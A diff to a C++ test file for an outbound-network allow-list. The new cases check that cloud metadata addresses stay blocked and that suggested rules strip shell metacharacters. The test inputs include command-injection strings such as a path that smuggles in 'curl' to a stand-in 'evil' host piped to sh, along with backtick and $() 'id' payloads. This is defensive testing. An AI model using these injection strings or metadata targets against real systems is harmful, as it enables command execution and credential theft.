@@ -161,6 +161,14 @@ TEST_CASE("a range that holds the Internet does not name what is in this host or
   CHECK(address_ok(rules({"0.0.0.0/0", "9.9.9.9"}), "9.9.9.9", 443, "9.9.9.9", Owner::kThisHost));
   CHECK(address_ok(rules({"0.0.0.0/0", "10.0.0.0/8"}), "10.1.2.3", 443, "10.1.2.3"));
   CHECK_FALSE(address_ok(rules({"169.254.0.0/16"}), "169.254.169.254", 443, "169.254.169.254"));
+  for (const char* metadata : {"100.100.100.200", "192.0.0.192", "fd00:ec2::254", "fd20:ce::254"}) {
+    INFO(metadata);
+    const auto wide = rules({"100.64.0.0/10", "192.0.0.0/24", "fc00::/7", "fd00::/8", "0.0.0.0/0", "::/0", "name.example=100.64.0.0/10,192.0.0.0/24,fc00::/7"});
+    CHECK_FALSE(address_ok(wide, metadata, 443, metadata));
+    CHECK_FALSE(address_ok(wide, "name.example", 443, metadata));
+    CHECK(address_ok(rules({metadata}), metadata, 443, metadata));
+  }
+  CHECK(address_ok(rules({"100.64.0.0/10"}), "100.100.100.201", 443, "100.100.100.201"));   // its neighbour is in the range
   CHECK(address_ok(rules({"169.254.169.254"}), "169.254.169.254", 443, "169.254.169.254"));
 }
 
@@ -179,10 +187,34 @@ TEST_CASE("a refusal says which rule would be needed, and that rule does") {
   CHECK(needed({}, "fd00::1", 22, nullptr) == "[fd00::1]:22");
   CHECK(needed(rules({"a.example"}), "a.example", 22, nullptr) == "a.example:22");
   const HttpRequestView post{"POST", "/up?secret=1"};
-  CHECK(needed(rules({"GET a.example"}), "a.example", 80, &post) == "POST a.example/up");
+  CHECK(needed(rules({"GET a.example"}), "a.example", 80, &post) == "POST a.example:80/up");
+  CHECK(needed(rules({"GET a.example:443"}), "a.example", 443, &post) == "POST a.example:443/up");
   const auto list = rules({"a.example"});
   const EgressTarget target = make_target("a.example", 443).value();
   CHECK(judge_address(list, list[0], target, parse_address("10.0.0.1").value(), Owner::kOther).needed == "a.example=10.0.0.1/32");
+}
+
+TEST_CASE("a suggested rule has nothing in it that means something to a shell") {
+  const auto list = rules({"GET a.example/open"});
+  const EgressTarget target = make_target("a.example", 80).value();
+  for (const char* path : {"/x';curl${IFS}evil|sh;'", "/`id`", "/$(id)", "/a;b", "/a&b", "/a|b", "/a\"b", "/a\\b", "/a!b", "/a*b", "/a=10.0.0.0/8", "/a,b", "/a:81",
+                           "/a#b", "/a%27b", "/a(b)", "/a<b", "/a\nb", "/a//b", "/a/../b", "/\xc3\xa9"}) {
+    INFO(path);
+    const HttpRequestView request{"GET", path};
+    const EgressJudgement judged = judge_target(list, target, &request);
+    REQUIRE(judged.rule == nullptr);
+    CHECK(judged.needed == "GET a.example:80");
+    const std::vector<EgressRule> more{rule(judged.needed)};
+    CHECK(judge_target(more, target, &request).rule != nullptr);
+  }
+  const HttpRequestView good{"GET", "/A-z_0.9~/x?token='`id`"};
+  CHECK(judge_target(list, target, &good).needed == "GET a.example:80/A-z_0.9~/x");
+  for (const char* method : {"'`id`'", "get", "$X", "G|T", "AVERYLONGMETHODTHATNOBODYHAS"}) {
+    const HttpRequestView request{method, "/x"};
+    const EgressJudgement judged = judge_target(list, target, &request);
+    CHECK(judged.needed.empty());
+    CHECK(judged.reason.starts_with("this method of that path"));
+  }
 }
 
 TEST_CASE("presets have names") {
